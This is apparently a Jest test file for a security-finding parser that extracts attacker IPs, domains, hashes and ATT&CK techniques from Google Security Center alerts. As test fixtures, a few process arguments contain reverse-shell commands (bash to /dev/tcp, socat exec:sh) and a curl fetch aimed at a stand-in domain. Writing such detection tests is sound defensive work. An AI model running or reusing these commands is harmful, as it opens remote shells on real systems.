import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { detailFacts } from '../../../src/domain/presentation/brief/detail-facts';
import type { Finding } from '../../../src/domain/finding/finding';
import { attackerAddresses } from '../../../src/google/security-center/finding/indicator-candidates';
import { membersIn, olderCandidates } from '../../../src/google/security-center/finding/older-forms';
import { parseFinding } from '../../../src/google/security-center/finding/parse-finding';
import { constructedFinding, notification, process, type Json } from '../../corpus/constructed';

const read = (more: Json): Finding =>
  parseFinding(notification(constructedFinding('a1', 'Reverse Shell', more)));
const named = ({ indicators }: Finding): readonly string[] =>
  indicators.map(({ kind, value }) => `${kind} ${value}`);
const at = ({ indicators }: Finding): readonly string[] => indicators.map(({ from }) => from);

describe('indicators that stand only in source properties', () => {
  test.each<readonly [string, Json, readonly string[]]>([
    [
      'addresses as a list',
      { properties: { ips: ['198.51.100.7', '198.51.100.8'] } },
      ['ip 198.51.100.7', 'ip 198.51.100.8'],
    ],
    ['one address', { properties: { ip: '198.51.100.7' } }, ['ip 198.51.100.7']],
    [
      'several in one text',
      { properties: { ips: '198.51.100.7, 198.51.100.8' } },
      ['ip 198.51.100.7', 'ip 198.51.100.8'],
    ],
    [
      'domains',
      { properties: { domains: ['c2.example', 'ösf.example'] } },
      ['domain c2.example', 'domain xn--sf-eka.example'],
    ],
    ['an object for each', { properties: { domains: [{ domain: 'c2.example' }] } }, ['domain c2.example']],
    ['URLs', { properties: { urls: ['http://c2.example/k'] } }, ['url http://c2.example/k']],
    [
      'a connection',
      { properties: { ipConnection: { destIp: '198.51.100.7', srcIp: '203.0.113.9' } } },
      ['ip 198.51.100.7', 'ip 203.0.113.9'],
    ],
    ...[
      ...['remoteAddress', 'destinationAddress', 'remote_addr', 'peerAddresses', 'remote_addr_0'],
      ...['ipv4', 'ipv6s', 'ipv4Address', 'destIpv4', 'source_ipv4_address'],
    ].map((name): readonly [string, Json, readonly string[]] => [
      `an address called ${name}`,
      { properties: { [name]: '198.51.100.7' } },
      ['ip 198.51.100.7'],
    ]),
    [
      'an address of something else',
      { properties: { streetAddress: '198.51.100.7', addr: '198.51.100.7' } },
      [],
    ],
    [
      'flattened',
      { properties_ip_0: '198.51.100.7', properties_domain_1: 'c2.example' },
      ['ip 198.51.100.7', 'domain c2.example'],
    ],
    ['as JSON in a text', { properties: '{"ips":["198.51.100.7"]}' }, ['ip 198.51.100.7']],
    [
      'a list as a text',
      { properties: { ips: '["198.51.100.7","198.51.100.8"]' } },
      ['ip 198.51.100.7', 'ip 198.51.100.8'],
    ],
    [
      'a link to VirusTotal',
      {
        contextUris: {
          virustotalIndicatorQueryUri: [
            { displayName: 'x', url: 'https://www.virustotal.com/gui/domain/c2.example/detection' },
          ],
        },
      },
      ['domain c2.example'],
    ],
    [
      'a link to a file there',
      {
        contextUris: {
          virustotalIndicatorQueryUri: [{ url: `https://www.virustotal.com/gui/file/${'a'.repeat(64)}` }],
        },
      },
      [`sha256 ${'a'.repeat(64)}`],
    ],
    [
      'a link to the logs',
      { contextUris: { cloudLoggingQueryUri: [{ url: 'https://console.cloud.google.com/logs' }] } },
      [],
    ],
    [
      'other words',
      { properties: { instanceDetails: 'x.example', zip: '198.51.100.7', description: 'c2.example' } },
      [],
    ],
    ['nothing', {}, []],
    ['a list', { properties: [] }, []],
  ])('%s', (_what, sourceProperties, expected) => {
    expect(named(read({ sourceProperties }))).toEqual(expected);
  });

  test('come after those of the typed fields, and say where they stood', () => {
    const finding = read({
      indicator: { ipAddresses: ['203.0.113.7'] },
      sourceProperties: { properties: { ips: ['198.51.100.7', '203.0.113.7'] } },
    });
    expect(at(finding)).toEqual(['indicator.ipAddresses[0]', 'sourceProperties.properties.ips[0]']);
  });

  test("the workload's own end of a connection is not the attacker's", () => {
    const finding = read({
      sourceProperties: { properties: { ipConnection: { destIp: '198.51.100.7', srcIp: '203.0.113.9' } } },
    });
    expect(attackerAddresses(finding)).toEqual(['198.51.100.7']);
  });
});

describe('internationalised names', () => {
  test.each<readonly [string, Json]>([
    ['among the domains', { indicator: { domains: ['ösf.example'] } }],
    ['among the addresses', { indicator: { ipAddresses: ['ösf.example'] } }],
    ['in a URL', { indicator: { uris: ['tcp://ösf.example:4444'] } }],
    ['with another dot', { indicator: { domains: ['ösf。example'] } }],
    ['in an argument', { processes: [process('/bin/sh', ['-c', 'curl https://ösf.example/x'])] }],
    [
      'in an argument with another dot',
      { processes: [process('/bin/sh', ['-c', 'curl https://ösf．example/x'])] },
    ],
    [
      'in a device of Bash',
      { processes: [process('/bin/bash', ['-c', 'bash -i >& /dev/tcp/ösf.example/4444'])] },
    ],
    ["in socat's form", { processes: [process('/bin/socat', ['exec:sh', 'tcp:ösf.example:4444'])] }],
    ['in a script', { processes: [{ script: { contents: 'get("http://ösf.example/")' } }] }],
    ['in source properties', { sourceProperties: { properties: { domains: ['ösf.example'] } } }],
  ])('%s are looked up in the form of DNS', (_what, more) => {
    expect(named(read(more))).toEqual(['domain xn--sf-eka.example']);
  });
});

describe('what is not looked up is said', () => {
  test.each<readonly [string, Json, string | undefined]>([
    [
      'a private address',
      { indicator: { ipAddresses: ['10.0.0.7'] } },
      '10.0.0.7 (indicator.ipAddresses[0]): it is a private or local address',
    ],
    [
      'what is nothing',
      { indicator: { ipAddresses: ['nonsense'] } },
      'nonsense (indicator.ipAddresses[0]): it is no address and no domain name',
    ],
    [
      'a name that cannot be converted',
      { indicator: { domains: [`${'ö'.repeat(70)}.example`] } },
      'it is no address and no domain name',
    ],
    [
      "the workload's own end",
      { connections: [{ sourceIp: '10.0.0.7', destinationIp: '198.51.100.7' }] },
      undefined,
    ],
  ])('%s', (_what, more, says) => {
    const said = detailFacts(read(more), 300).filter(({ label }) => label === 'Not looked up');
    expect(said.map(({ value }) => value)).toEqual(says === undefined ? [] : [expect.stringContaining(says)]);
  });
});

describe('ATT&CK by link', () => {
  test.each<readonly [string, unknown, readonly string[], readonly string[] | undefined]>([
    [
      'a technique',
      { displayName: 'x', url: 'https://attack.mitre.org/techniques/T1078/004/' },
      ['T1078.004'],
      undefined,
    ],
    ['without its part', 'https://attack.mitre.org/techniques/T1059', ['T1059'], undefined],
    ['a tactic', { url: 'https://attack.mitre.org/tactics/TA0011/' }, [], ['TA0011']],
    [
      'several',
      [
        { url: 'https://attack.mitre.org/techniques/T1059/004/' },
        { url: 'https://attack.mitre.org/techniques/T1105/' },
      ],
      ['T1059.004', 'T1105'],
      undefined,
    ],
    ['elsewhere', { url: 'https://attack.example/techniques/T1059/' }, [], undefined],
    ['nothing', undefined, [], undefined],
  ])('%s', (_what, mitreUri, techniques, tactics) => {
    const finding = read({ sourceProperties: { contextUris: { mitreUri } }, mitreAttack: undefined });
    expect(finding.techniques).toEqual(techniques);
    expect(finding.tactics).toEqual(tactics);
  });

  test('comes after what the finding names itself, each once', () => {
    const finding = read({
      mitreAttack: { primaryTechniques: ['UNIX_SHELL'] },
      sourceProperties: {
        contextUris: { mitreUri: { url: 'https://attack.mitre.org/techniques/T1059/004/' } },
        detectionCategory: { technique: 'privilege-escalation' },
      },
    });
    expect(finding.techniques).toEqual(['T1059.004']);
    expect(finding.tactics).toEqual(['TA0004']);
  });
});

describe('facts that stand in older or rarer fields', () => {
  test.each<readonly [string, Json, string, readonly string[]]>([
    [
      'a grant',
      {
        sourceProperties: {
          properties: {
            sensitiveRoleGrant: {
              bindingDeltas: [{ action: 'ADD', role: 'roles/owner', member: 'user:ada@example.com' }],
            },
          },
        },
      },
      'Binding',
      ['ADD roles/owner for user:ada@example.com'],
    ],
    [
      'a grant by number, as typed fields have it too',
      {
        iamBindings: [{ action: 'ADD', role: 'roles/owner', member: 'user:ada@example.com' }],
        sourceProperties: {
          properties: {
            bindingDeltas: [{ action: 1, role: 'roles/owner', member: 'user:ada@example.com' }, {}],
          },
        },
      },
      'Binding',
      ['ADD roles/owner for user:ada@example.com'],
    ],
    [
      'a family',
      {
        indicator: {
          signatures: [
            {
              memoryHashSignature: {
                binaryFamily: 'XMRig',
                detections: [{ binary: 'xmrig', percentPagesMatched: 97.6 }],
              },
            },
          ],
        },
      },
      'Signature',
      ['memory of the family XMRig (98 % of the pages of xmrig)'],
    ],
    [
      'a rule of YARA',
      { indicator: { signatures: [{ yaraRuleSignature: { yaraRule: 'Miner_1' } }] } },
      'Signature',
      ['YARA rule Miner_1'],
    ],
    ['an empty signature', { indicator: { signatures: [{}] } }, 'Signature', []],
    [
      'an entry without time and place',
      {
        sourceProperties: {
          evidence: [{ sourceLogId: { insertId: '3', timestamp: { seconds: 0, nanos: 0 } } }],
        },
      },
      'Log entry',
      ['insertId 3, its time is not told'],
    ],
    [
      'an entry with both',
      {
        sourceProperties: {
          evidence: [
            { sourceLogId: { insertId: '3', projectId: 'acme', timestamp: { seconds: '1795000000' } } },
          ],
        },
      },
      'Log entry',
      ['insertId 3 at 2026-11-18T11:06:40Z in projects/acme'],
    ],
  ])('%s', (_what, more, label, expected) => {
    const facts = detailFacts(read(more), 300).filter((fact) => fact.label === label);
    expect(facts.map(({ value }) => value)).toEqual(expected);
  });
});

test('any source properties are worked through', () => {
  fc.assert(
    fc.property(fc.jsonValue({ maxDepth: 6 }), (value) => {
      expect(olderCandidates(membersIn(value)).length).toBeLessThanOrEqual(20);
    }),
    { numRuns: 500 },
  );
  let deep: unknown = '198.51.100.7';
  for (let depth = 0; depth < 10_000; depth += 1) deep = { ips: [deep] };
  expect(olderCandidates(membersIn(deep))).toEqual([]);
});
